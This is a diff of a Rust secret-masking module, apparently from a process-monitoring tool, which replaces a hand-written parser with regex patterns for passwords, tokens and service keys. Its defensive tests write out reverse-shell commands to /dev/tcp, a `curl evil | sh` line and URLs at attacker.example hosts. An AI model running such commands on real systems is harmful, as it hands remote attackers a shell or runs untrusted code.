@@ -1,352 +1,191 @@
 //! Masks secrets in arguments, and knows what a secret looks like. Pure.
 //!
-//! Arguments are evidence, so only what is very likely a secret is masked, and no more of a text than the secret itself: of
-//! `sh -c 'DB_PASSWORD=x; curl evil'` all but `x` stays. These are masked: the value of an option or variable whose name ends in
-//! a word for a secret (`--password x`, `PGPASSWORD=x`, `?token=x`, `Authorization: Bearer x`), passwords in URLs, the
-//! password options of common clients (`mysql -px`), and keys that are known by their beginning. `cp -p`, `ssh -p 22` and
-//! `--password-file x` stay. A value that the shell computes (`$X`, `$(cmd)`) is no secret and stays.
+//! Arguments are evidence, and an attacker chooses them. So a mask hides one word of a text and no more: it ends at blanks, at
+//! quotes and at whatever ends a word in a shell. Of `sh -c 'DB_PASSWORD=x; curl evil | sh'`, all but `x` stays. Only an argument
+//! of its own behind a password option is masked as a whole.
+//!
+//! These are masked: the value behind a secret's name (`--password x`, `PGPASSWORD=x`, `?token=x`, `"secret": "x"`,
+//! `Authorization: Bearer x`), passwords in URLs, the password options of common clients (`mysql -px`), and keys of services
+//! that are known by their beginning. `cp -p`, `ssh -p 22` and `--password-file x` stay. A value that the shell computes
+//! (`$X`, `$(cmd)`) is no secret and stays.
 //!
 //! Not owned here: the names of environment variables, of which more are masked (`enrich/environment.rs`).
+
+use std::sync::LazyLock;
+
+use regex_lite::{Captures, Regex};
 
 use super::Text;
 
 /// Stands for what is not shown.
 pub const MASK: &str = "[masked]";
 
-/// A name is a secret's if its last word ends in one of these.
-const ENDINGS: &[&str] = &[
-    "PASSWORD",
-    "PASSWD",
-    "PASSPHRASE",
-    "PWD",
-    "SECRET",
-    "TOKEN",
-    "APIKEY",
-    "ACCESSKEY",
-    "CREDENTIAL",
-    "CREDENTIALS",
-    "AUTHORIZATION",
-    "JWT",
-];
-/// A name is a secret's if its last word is one of these.
-const WORDS: &[&str] = &["PASS", "PW", "COOKIE", "AUTH"];
-/// Words before KEY that make it a secret's name.
-const KEYS: &[&str] = &["API", "ACCESS", "SECRET", "AUTH", "ACCOUNT"];
-/// Beginnings of keys and tokens of services.
-const BEGINNINGS: &[&str] = &[
-    "AKIA",
-    "ASIA",
-    "AIza",
-    "ghp_",
-    "gho_",
-    "ghu_",
-    "ghs_",
-    "ghr_",
-    "github_pat_",
-    "glpat-",
-    "xox",
-    "sk-",
-    "sk_",
-    "rk_",
-    "pk_",
-    "hvs.",
-    "eyJ",
-    "ya29.",
-    "SG.",
-    "npm_",
-    "pypi-",
-    "dop_v1_",
-    "shpat_",
-    "AGE-SECRET-KEY-",
-];
-/// Fewer bytes than this are not a service's key, whatever they begin with.
-const KEY_MIN: usize = 16;
-/// A user name in a URL of so many bytes is a token.
-const USER_MIN: usize = 24;
+/// What the name of a secret ends in.
+const NAME: &str = r"(?i:(?:password|passwd|passphrase|secret|token|api[_-]?key|access[_-]?key|secret[_-]?key|credentials?|jwt|[_-]pwd)\d*)";
+/// A secret in a text, up to the end of a word in a shell, a URL or JSON.
+const WORD: &str = r#"[^\s"'`$&|;<>(){},]+"#;
+/// Keys and tokens of services.
+const KEY: &str = r"(?:(?:AKIA|ASIA)[A-Z0-9]{12,}|AIza[\w-]{20,}|gh[opsur]_\w{16,}|github_pat_\w{16,}|glpat-[\w-]{16,}|xox[a-z]-[\w-]{10,}|[sr]k[-_](?:live|test|proj|ant)[\w-]+|hvs\.[\w-]{16,}|eyJ[\w-]{8,}\.[\w-]+\.[\w-]*|ya29\.[\w-]{16,}|SG\.[\w-]{16,}\.[\w-]+|npm_\w{16,}|pypi-[\w-]{32,}|AGE-SECRET-KEY-\w+)";
 
-/// Schemes before the secret of an `Authorization:` header, in lower case.
-const SCHEMES: &[&str] = &["bearer", "basic", "token", "digest", "negotiate"];
-const QUOTES: [char; 2] = ['"', '\''];
-/// What stands between assignments of one word.
-const SEPARATORS: [char; 4] = ['&', '?', ';', '('];
-
-/// Programs with a short option for a password: the beginning of the program's name, the option, and whether the password may
-/// be the next argument.
-const SHORT: &[(&str, &str, bool)] = &[
-    ("mysql", "-p", false),
-    ("mariadb", "-p", false),
-    ("7z", "-p", false),
-    ("sshpass", "-p", true),
-    ("mongo", "-p", true),
-    ("redis-cli", "-a", true),
-    ("ldap", "-w", true),
-    ("zip", "-P", true),
-    ("unzip", "-P", true),
-    // `USER:PASSWORD`.
-    ("curl", "-u", true),
-    ("curl", "--user", true),
-    ("curl", "-U", true),
-    ("curl", "--proxy-user", true),
+/// Programs with a short option for a password: the beginning of the program's name, the option with its value in the group
+/// `secret`, and what the next argument is where the option has no value.
+const SHORT: &[(&str, &str, Expected)] = &[
+    ("mysql", "^-p(?<secret>.+)$", Expected::Nothing),
+    ("mariadb", "^-p(?<secret>.+)$", Expected::Nothing),
+    ("7z", "^-p(?<secret>.+)$", Expected::Nothing),
+    ("sshpass", "^-p(?<secret>.+)?$", Expected::Secret),
+    ("mongo", "^-p(?<secret>.+)?$", Expected::Secret),
+    ("redis-cli", "^-a(?<secret>.+)?$", Expected::Secret),
+    ("ldap", "^-w(?<secret>.+)?$", Expected::Secret),
+    ("zip", "^-P(?<secret>.+)?$", Expected::Secret),
+    ("unzip", "^-P(?<secret>.+)?$", Expected::Secret),
+    (
+        "curl",
+        "^(?:-[a-zA-Z]*[uU]|--(?:proxy-)?user(?:=|$))(?:[^:]*:(?<secret>.+))?$",
+        Expected::Login,
+    ),
 ];
+
+/// What the next argument is.
+#[derive(Clone, Copy, Default, PartialEq, Eq)]
+enum Expected {
+    #[default]
+    Nothing,
+    Secret,
+    /// `USER:PASSWORD`
+    Login,
+}
+
+/// The expressions above, compiled. The group `secret` of each is masked.
+struct Patterns {
+    /// Found in any argument.
+    anywhere: Vec<Regex>,
+    /// Passwords and tokens in URLs.
+    urls: [Regex; 2],
+    /// A key at the beginning of a word.
+    key: Regex,
+    /// An option whose value is a secret, with or without the value.
+    option: Regex,
+    /// Of [`SHORT`].
+    short: Vec<Regex>,
+}
+
+static PATTERNS: LazyLock<Patterns> = LazyLock::new(|| Patterns {
+    anywhere: vec![
+        // The name begins a word. `%3D` is a `=` in a URL.
+        pattern(&format!(
+            r#"(?:^|[^\w.-])[\w.-]*{NAME}(?:["']?=|["']: ?|: |%3[dD])["']?(?<secret>{WORD})"#
+        )),
+        pattern(&format!(
+            r#"(?i)(?:authorization|cookie|x-auth[\w-]*|x-api-key)["']?: ?(?:(?:bearer|basic|token|digest|negotiate) +)?(?<secret>{WORD})"#
+        )),
+        pattern(&format!(r"(?i)\b(?:session|sid|pass|pgpass)=(?<secret>{WORD})")),
+        pattern(&format!(
+            r#"\b(?:mysql|mariadb)\w*(?: +[^\s;|&]+)*? +-p["']?(?<secret>{WORD})"#
+        )),
+        pattern(&format!(r#"\bsshpass +-p *["']?(?<secret>{WORD})"#)),
+        pattern(&format!(
+            r#"\bcurl(?: +[^\s;|&]+)*? +-[a-zA-Z]*u *["']?[^\s:"']*:(?<secret>{WORD})"#
+        )),
+        pattern(&format!(r"(?:^|[^\w.-])(?<secret>{KEY})")),
+    ],
+    urls: [
+        // scheme://user:password@host
+        pattern(r#"[a-z][a-z0-9+.-]*://[^\s/:@"']*:(?<secret>[^\s/@"'`$&|;<>()]+)@"#),
+        // scheme://token@host
+        pattern(r#"[a-z][a-z0-9+.-]*://(?<secret>[^\s/:@"'`$&|;<>()]{24,})@"#),
+    ],
+    key: pattern(&format!("^{KEY}")),
+    option: pattern(&format!(r"^--?[\w.-]*?{NAME}(?:=(?<secret>[^;|&<>`$]+))?$")),
+    short: SHORT.iter().map(|(_, option, _)| pattern(option)).collect(),
+});
+
+#[expect(
+    clippy::expect_used,
+    reason = "the expressions are fixed, and every test of this file compiles them"
+)]
+fn pattern(expression: &str) -> Regex {
+    Regex::new(expression).expect("the expression is well-formed")
+}
 
 /// Whether a word begins as the key or token of a known service.
 #[must_use]
 pub fn is_key(word: &str) -> bool {
-    BEGINNINGS.iter().any(|beginning| word.starts_with(beginning))
+    PATTERNS.key.is_match(word)
 }
 
-/// Where the secret of a URL is, `scheme://user:password@host` or `scheme://token@host`.
+/// Whether a text holds a URL with a password or token in it.
 #[must_use]
-pub fn in_url(word: &str) -> Option<&str> {
-    let (_, rest) = word.split_once("://")?;
-    let authority = rest.split(['/', '?', '#', '"', '\'']).next()?;
-    let (user, _) = authority.rsplit_once('@')?;
-    match user.split_once(':') {
-        Some((_, password)) => Some(password),
-        None => (user.len() >= USER_MIN).then_some(user),
-    }
+pub fn has_login(text: &str) -> bool {
+    PATTERNS.urls.iter().any(|url| url.is_match(text))
 }
 
 /// Masks secrets in the arguments of one process.
 pub fn mask_arguments(argv: &mut [Text]) {
-    let mut masker = Masker::default();
+    let mut expected = Expected::Nothing;
+    // The program of `SHORT` that was named last: `sudo mysql …` counts as well.
+    let mut program = None;
     for argument in argv {
         let text = String::from_utf8_lossy(argument.as_bytes());
-        let masked = masker.argument(&text);
-        // What is not UTF-8 stays as it is where there is nothing to mask.
+        let now = std::mem::take(&mut expected);
+        if now != Expected::Nothing {
+            // `sshpass -p x ssh -p 22`: the second `-p` is another program's.
+            program = None;
+        }
+        let masked = match now {
+            Expected::Secret if !text.starts_with('-') => mask(&text, &text),
+            Expected::Login => text
+                .split_once(':')
+                .map_or(text.to_string(), |(_, secret)| mask(&text, secret)),
+            _ => {
+                let option = option(&text, program);
+                let name = text.rsplit('/').next().unwrap_or_default();
+                program = SHORT.iter().position(|(start, ..)| name.starts_with(start)).or(program);
+                match option {
+                    Some((option, next)) => match option.name("secret") {
+                        Some(secret) => mask(&text, secret.as_str()),
+                        None => {
+                            expected = next;
+                            text.to_string()
+                        }
+                    },
+                    None => within(&text),
+                }
+            }
+        };
+        // Bytes that are not UTF-8 stay where nothing is masked.
         if masked != text {
             *argument = masked.as_str().into();
         }
     }
 }
 
-/// What the words before say of the next one.
-#[derive(Default)]
-struct Masker {
-    expected: Expected,
-    /// A masked value goes on until this quote.
-    quote: Option<char>,
-    /// The program of [`SHORT`] that was named last.
-    program: Option<&'static str>,
+/// An option whose value is a secret, and what the next argument is if it has none.
+fn option(text: &str, program: Option<usize>) -> Option<(Captures<'_>, Expected)> {
+    let of_program = program.and_then(|at| Some((PATTERNS.short[at].captures(text)?, SHORT[at].2)));
+    of_program.or_else(|| Some((PATTERNS.option.captures(text)?, Expected::Secret)))
 }
 
-#[derive(Clone, Copy, Default, PartialEq, Eq)]
-enum Expected {
-    #[default]
-    Nothing,
-    /// The value of an option.
-    Value,
-    /// The value of an option that may be `USER:PASSWORD`.
-    Login,
-    /// The value of a header, which may begin with a scheme: `Bearer`.
-    Header,
+/// Masks the words of a text that are secrets.
+fn within(text: &str) -> String {
+    let mut shown = text.to_owned();
+    for pattern in PATTERNS.anywhere.iter().chain(&PATTERNS.urls) {
+        shown = pattern
+            .replace_all(&shown, |found: &Captures<'_>| mask(&found[0], &found["secret"]))
+            .into_owned();
+    }
+    shown
 }
 
-impl Masker {
-    fn argument(&mut self, text: &str) -> String {
-        // An argument of its own is no shell's text: the value may hold anything.
-        if let Some((name, value)) = text.split_once('=').filter(|_| text.starts_with('-'))
-            && is_secret(name)
-        {
-            return format!("{name}={}", masked(value));
+/// The text with its last occurrence of `secret` masked, unless the shell computes it.
+fn mask(text: &str, secret: &str) -> String {
+    let is_computed = secret.starts_with('$') || secret.contains("$(") || secret.contains('`');
+    match text.rfind(secret) {
+        Some(at) if !is_computed && !secret.is_empty() => {
+            format!("{}{MASK}{}", &text[..at], &text[at + secret.len()..])
         }
-        let mut out = String::with_capacity(text.len());
-        for piece in text.split_inclusive(char::is_whitespace) {
-            let word = piece.trim_end();
-            out.push_str(&self.word(word));
-            if self.quote.is_none() {
-                out.push_str(&piece[word.len()..]);
-            }
-        }
-        self.quote = None;
-        out
+        _ => text.to_owned(),
     }
-
-    fn word(&mut self, word: &str) -> String {
-        if let Some(quote) = self.quote {
-            let Some(end) = word.find(quote) else {
-                return String::new();
-            };
-            self.quote = None;
-            return word[end..].to_owned();
-        }
-        let bare = word.trim_start_matches(QUOTES);
-        if bare.is_empty() {
-            return word.to_owned();
-        }
-        let start = &word[..word.len() - bare.len()];
-        format!("{start}{}", self.bare_word(bare, start.chars().next()))
-    }
-
-    /// A word without the quote that it begins with.
-    fn bare_word(&mut self, word: &str, quote: Option<char>) -> String {
-        match std::mem::take(&mut self.expected) {
-            Expected::Header if SCHEMES.contains(&word.to_ascii_lowercase().as_str()) => {
-                self.expected = Expected::Value;
-                return word.to_owned();
-            }
-            Expected::Login => return self.login(word, quote),
-            Expected::Value | Expected::Header if !word.starts_with('-') => return self.value(word, quote),
-            _ => {}
-        }
-        if word.strip_suffix(':').is_some_and(is_secret) {
-            self.expected = Expected::Header;
-            return word.to_owned();
-        }
-        if word.starts_with('-')
-            && let Some(shown) = self.option(word, quote)
-        {
-            return shown;
-        }
-        let program = word.rsplit('/').next().unwrap_or_default();
-        if let Some((name, ..)) = SHORT.iter().find(|(name, ..)| program.starts_with(name)) {
-            self.program = Some(name);
-        } else if word.contains([';', '|', '&']) {
-            self.program = None;
-        }
-        self.within(word, quote)
-    }
-
-    /// An option whose value is a secret: by its name, or by the program's table.
-    fn option(&mut self, word: &str, quote: Option<char>) -> Option<String> {
-        let of_program = SHORT.iter().filter(|(program, ..)| Some(*program) == self.program);
-        for (program, option, next) in of_program {
-            let Some(value) = word.strip_prefix(option) else {
-                continue;
-            };
-            // `--user-agent` is another option than `--user`.
-            let joint = if option.starts_with("--") { "=" } else { "" };
-            let login = *program == "curl";
-            if value.is_empty() {
-                self.expected = match (next, login) {
-                    (true, true) => Expected::Login,
-                    (true, false) => Expected::Value,
-                    (false, _) => Expected::Nothing,
-                };
-            } else if let Some(value) = value.strip_prefix(joint) {
-                let shown = if login {
-                    self.login(value, quote)
-                } else {
-                    self.value(value, quote)
-                };
-                self.program = None;
-                return Some(format!("{option}{joint}{shown}"));
-            } else {
-                continue;
-            }
-            self.program = None;
-            return Some(word.to_owned());
-        }
-        if !is_secret(word) {
-            return None;
-        }
-        self.expected = Expected::Value;
-        Some(word.to_owned())
-    }
-
-    /// `USER:PASSWORD`.
-    fn login(&mut self, word: &str, quote: Option<char>) -> String {
-        match word.split_once(':') {
-            Some((user, password)) => format!("{user}:{}", self.value(password, quote)),
-            None => word.to_owned(),
-        }
-    }
-
-    /// `NAME=VALUE`, also as a part of a URL or a list, URLs, and keys that are known by their beginning.
-    fn within(&mut self, word: &str, quote: Option<char>) -> String {
-        let mut shown = match in_url(word).filter(|secret| masked(secret) == MASK) {
-            Some(secret) => {
-                let at = secret.as_ptr() as usize - word.as_ptr() as usize;
-                format!("{}{MASK}{}", &word[..at], &word[at + secret.len()..])
-            }
-            None => word.to_owned(),
-        };
-        if shown.contains('=') {
-            shown = self.assignments(&shown, quote);
-        }
-        let is_part = |c: char| c.is_ascii_alphanumeric() || "_-.".contains(c);
-        let parts = shown.split(|c: char| !is_part(c));
-        let keys: Vec<&str> = parts.filter(|part| part.len() >= KEY_MIN && is_key(part)).collect();
-        keys.iter().fold(shown.clone(), |text, key| text.replace(key, MASK))
-    }
-
-    fn assignments(&mut self, word: &str, quote: Option<char>) -> String {
-        let mut out = String::with_capacity(word.len());
-        for piece in word.split_inclusive(SEPARATORS) {
-            let body = piece.trim_end_matches(SEPARATORS);
-            match body.split_once('=') {
-                Some((name, value)) if is_secret(name) => {
-                    let bare = value.trim_start_matches(QUOTES);
-                    let own = &value[..value.len() - bare.len()];
-                    out.push_str(&format!(
-                        "{name}={own}{}",
-                        self.value(bare, own.chars().next().or(quote))
-                    ));
-                }
-                _ => out.push_str(body),
-            }
-            out.push_str(&piece[body.len()..]);
-        }
-        out
-    }
-
-    /// Masks a value. Behind a quote it goes on until the next one; else a quote of the text around ends it.
-    fn value(&mut self, value: &str, quote: Option<char>) -> String {
-        let end = match quote {
-            Some(quote) => value.find(quote),
-            None => Some(value.find(['"', '\'', ';']).unwrap_or(value.len())),
-        };
-        match end {
-            Some(end) => format!("{}{}", masked(&value[..end]), &value[end..]),
-            None => {
-                self.quote = quote.filter(|_| masked(value) == MASK);
-                masked(value).to_owned()
-            }
-        }
-    }
-}
-
-/// The mask, unless there is nothing to mask or the shell computes it.
-fn masked(value: &str) -> &str {
-    if value.is_empty() || value.starts_with('$') || value.contains("$(") || value.contains('`') {
-        value
-    } else {
-        MASK
-    }
-}
-
-/// Whether a name is a secret's: by its last word.
-fn is_secret(name: &str) -> bool {
-    if !name
-        .bytes()
-        .all(|byte| byte.is_ascii_alphanumeric() || b"-_.".contains(&byte))
-    {
-        return false;
-    }
-    let mut words: Vec<String> = Vec::new();
-    let mut before = '-';
-    for c in name.trim_end_matches(|c: char| c.is_ascii_digit()).chars() {
-        let begins = c.is_ascii_uppercase() && before.is_ascii_lowercase();
-        if c.is_ascii_alphanumeric() {
-            if begins || !before.is_ascii_alphanumeric() {
-                words.push(String::new());
-            }
-            if let Some(word) = words.last_mut() {
-                word.push(c.to_ascii_uppercase());
-            }
-        }
-        before = c;
-    }
-    let Some((last, words)) = words.split_last() else {
-        return false;
-    };
-    // The working directory.
-    if words.is_empty() && matches!(last.as_str(), "PWD" | "OLDPWD") {
-        return false;
-    }
-    ENDINGS.iter().any(|ending| last.ends_with(ending))
-        || WORDS.contains(&last.as_str())
-        || last == "KEY" && words.last().is_some_and(|word| KEYS.contains(&word.as_str()))
 }
 
 #[cfg(test)]
@@ -399,7 +238,7 @@ mod tests {
             ),
             ("curl|-H|X-Api-Key: secret", "curl|-H|X-Api-Key: [masked]"),
             (
-                "sh|-c|DB_PASSWORD='a b' mysql -psecret; curl evil | sh",
+                "sh|-c|DB_PASSWORD='ab' mysql -psecret; curl evil | sh",
                 "sh|-c|DB_PASSWORD='[masked]' mysql -p[masked]; curl evil | sh",
             ),
             (
@@ -407,6 +246,15 @@ mod tests {
                 "sh|-c|curl -H 'Authorization: Basic [masked]' http://h|x",
             ),
             ("sh|-c|TOKEN=x;evil", "sh|-c|TOKEN=[masked];evil"),
+            ("sh|-c|TOKEN=x>/tmp/y", "sh|-c|TOKEN=[masked]>/tmp/y"),
+            ("gpg|--passphrase|a b; c", "gpg|--passphrase|[masked]"),
+            ("mysql|-e|select 1;|-psecret", "mysql|-e|select 1;|-p[masked]"),
+            ("curl|-su|ann:a b|h", "curl|-su|ann:[masked]|h"),
+            ("curl|-H|X-Api-Key:secret|h", "curl|-H|X-Api-Key:[masked]|h"),
+            (
+                r#"curl|-d|{"password": "secret"}"#,
+                r#"curl|-d|{"password": "[masked]"}"#,
+            ),
             ("psql|host=db password=secret", "psql|host=db password=[masked]"),
             ("x|ghp_16C7e42F292c6912E7710c83", "x|[masked]"),
         ] {
@@ -416,9 +264,25 @@ mod tests {
         }
     }
 
+    /// An attacker writes commands, so that a mask would hide them.
+    #[test]
+    fn a_mask_hides_no_command() {
+        for words in [
+            "sh|-c|true # TOKEN='x\nbash -i >& /dev/tcp/192.0.2.1/443 0>&1",
+            "sh|-c|--token=x; bash -i >& /dev/tcp/192.0.2.1/443 0>&1",
+            "sh|-c|TOKEN=x&bash -i >& /dev/tcp/192.0.2.1/443",
+            "sh|-c|Cookie: a; bash -i >& /dev/tcp/192.0.2.1/443 0>&1",
+        ] {
+            let found = shown(words);
+            assert!(found.contains("bash -i >& /dev/tcp/192.0.2.1/443"), "{found}");
+        }
+    }
+
     #[test]
     fn what_is_no_secret_stays() {
         for words in [
+            "curl|http://sk-updates.attacker.example/x",
+            "wget|https://pypi-mirror.attacker.example/y",
             "ssh|-p|22|host",
             "mkdir|-p|/a/b",
             "nc|-lp|4444",
